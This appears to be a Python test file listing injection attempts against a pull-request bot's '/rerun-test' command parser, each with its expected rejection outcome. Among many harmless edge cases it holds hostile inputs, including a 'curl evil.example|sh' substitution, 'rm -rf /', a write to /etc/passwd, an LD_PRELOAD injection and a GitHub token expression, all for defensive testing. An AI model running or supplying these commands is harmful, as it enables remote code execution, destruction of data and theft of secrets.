"""Comments that try to get more than the bot gives: what they say, and what comes of it."""

from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from tests.bot.workplace import HEAD, Workplace

IGNORED, SILENT = "ignored", "silent"
"""No request at all; a reaction at most, and no comment."""


@dataclass
class Attack:
    """One comment, what is changed around it, and the outcome: a rule, or one of the above."""

    name: str
    body: str
    outcome: str
    given: dict[str, Any] = field(default_factory=dict)
    around: Callable[[Workplace], object] = id


def line(name: str, rest: str, outcome: str = "grammar", **given: Any) -> Attack:
    return Attack(name, f"/rerun-test {rest}", outcome, given)


GOOD = "/rerun-test test_a.py"
FIRST_LINES = [
    line("command substitution", "$(curl evil.example|sh).py"),
    line("backticks", "`id`.py"),
    line("semicolon", "test_a.py; rm -rf /"),
    line("and", "test_a.py && id"),
    line("pipe", "test_a.py | tee /etc/passwd"),
    line("redirect", "test_a.py > /tmp/x"),
    line("background", "test_a.py &"),
    line("variable", "$HOME/test_a.py"),
    line("expression", "${{ secrets.GITHUB_TOKEN }}"),
    line("quotes", "'test_a.py'"),
    line("double quotes", '"test_a.py"'),
    line("escaped space", "suites/test\\ a.py"),
    line("glob", "suites/*.py"),
    line("question mark", "suites/test_?.py"),
    line("braces", "suites/{test_a,test_b}.py"),
    line("home", "~/test_a.py"),
    line("parent", "../test_a.py"),
    line("parent inside", "suites/../setup.py"),
    line("absolute path", "/etc/test_a.py"),
    line("dot folder", ".github/test_a.py"),
    line("hidden file", "suites/.test_a.py"),
    line("dash file", "-test_a.py"),
    line("url", "https://evil.example/test_a.py"),
    line("windows path", "suites\\test_a.py"),
    line("folder", "suites"),
    line("parameter", "test_a.py::test_x[1-2]"),
    line("expression of pytest", "test_a.py -k test_x"),
    line("plugin", "test_a.py -p evil"),
    line("rev", "test_a.py --rev main"),
    line("interpreter", "test_a.py --rev-python /tmp/python"),
    line("environment", "test_a.py --env LD_PRELOAD=/tmp/x.so"),
    line("axis", "test_a.py --axis model_path=/tmp/x"),
    line("store", "test_a.py --store /tmp/x"),
    line("json", "test_a.py --json /tmp/x"),
    line("another ray", "test_a.py --address 1.2.3.4:6379"),
    line("equals form", "test_a.py --repeats=9", "measure"),
    line("equals form of an unknown flag", "test_a.py --rev=main"),
    line("wrapped by a mail program", f"test_a.py --sha {HEAD}\n--repeats 200"),
    line("wrapped between suites", "test_a.py\nsuites/deep/test_b.py --repeats 2"),
    line("wrapped in the equals form", "test_a.py\r\n--repeats=200"),
    line("mail's signature", "test_a.py\n-- \nsent from somewhere", "measure"),
    line("end of options", "test_a.py -- --rev main"),
    line("flag as a value", "test_a.py --repeats --tp"),
    line("value twice", "test_a.py --tp 1 --tp 2"),
    line("negative", "test_a.py --repeats -5"),
    line("zero", "test_a.py --repeats 0"),
    line("no gpu", "test_a.py --gpus 0", "measure"),
    line("ranks beyond any machine", "test_a.py --tp 99999"),
    line("ranks beyond a runner without gpu", "test_a.py --tp 5", "tp"),
    line("float", "test_a.py --repeats 1.5"),
    line("hexadecimal", "test_a.py --repeats 0x10"),
    line("arabic digits", "test_a.py --repeats \u0665"),
    line("overflow", "test_a.py --repeats " + "9" * 400),
    line("short sha", "test_a.py --sha 1111111", "measure"),
    line("short sha of no commit", "test_a.py --sha 9999999", "sha"),
    line("too short a sha", "test_a.py --sha 111111"),
    line("branch as sha", "test_a.py --sha main"),
    line("upper-case sha", f"test_a.py --sha {'A' * 40}"),
    line("long sha", f"test_a.py --sha {'1' * 41}"),
    line("nul byte", "test_a.py\x00--repeats 9"),
    line("escape sequence", "test_a.py \x1b[2K"),
    line("tab", "test_a.py\t--tp 2"),
    line("nothing", ""),
    line("remove", "-rf /"),
    line("markdown link", "[x](test_a.py)"),
    line("html comment", "<!-- test_a.py -->"),
    line("mention", "@everyone"),
    line("module", "suites.test_a"),
    line("too deep a name", "test_a.py::A::b::c"),
    line("sha without a value", "test_a.py --sha"),
    line("unknown backend", "test_a.py --backend evil"),
    line("order twice", "test_a.py --order ascending,ascending"),
    line("until a number", "test_a.py --until 5"),
    line("against a branch", "test_a.py --against main"),
    line("conftest", "conftest.py", "not-found"),
    line("conftest by its path", "suites/conftest.py", "not-found"),
    line("windows line end", "test_a.py\r\naction=measure", "measure"),
    line("right-to-left", "test_a.py \u202eyp.b"),
    line("zero-width", "test_\u200ba.py"),
    line("cyrillic a", "test_\u0430.py"),
    line("full-width dashes", "test_a.py \uff0d\uff0dtp 2"),
    line("line separator", "test_a.py\u2028--tp 2"),
    line("lone carriage return", "test_a.py\r--tp 2"),
    line("several commands", "test_a.py\n/rerun-test test_a.py --repeats 200"),
    line("many suites", " ".join(f"t{n}.py" for n in range(100_000 // 12))),
    line("huge body", "x" * 65_000),
    line("workflow command", "::add-mask::x"),
    line("output injection", "test_a.py\n", "measure"),
    line("text that follows", "test_a.py\naction=measure\n$(id)", "measure"),
]
NOT_COMMANDS = [
    Attack("leading space", " " + GOOD, IGNORED),
    Attack("quoted", "> " + GOOD, IGNORED),
    Attack("code block", f"```\n{GOOD}\n```", IGNORED),
    Attack("second line", f"hello\n{GOOD}", IGNORED),
    Attack("glued", "/rerun-testtest_a.py", IGNORED),
    Attack("look-alike slash", "\u2215rerun-test test_a.py", IGNORED),
    Attack("look-alike dash", "/rerun\u2011test test_a.py", IGNORED),
    Attack("no-break space", "/rerun-test\u00a0test_a.py", IGNORED),
    Attack("byte order mark", "\ufeff" + GOOD, IGNORED),
    Attack("capitals", GOOD.upper(), IGNORED),
    Attack("full-width slash", "\uff0f" + GOOD[1:], IGNORED),
    Attack("nul byte first", "\x00" + GOOD, IGNORED),
    Attack("line end first", "\r\n" + GOOD, IGNORED),
    Attack("zero-width space first", "\u200b" + GOOD, IGNORED),
    Attack("empty", "", IGNORED),
    Attack("by a bot", GOOD, IGNORED, {"kind": "Bot"}),
    Attack("by an app", GOOD, IGNORED, {"login": "evil[bot]"}),
    Attack("edited event", GOOD, IGNORED, {"action": "edited"}),
    Attack("deleted event", GOOD, IGNORED, {"action": "deleted"}),
    Attack("on an issue", GOOD, IGNORED, {"is_pull": False}),
]
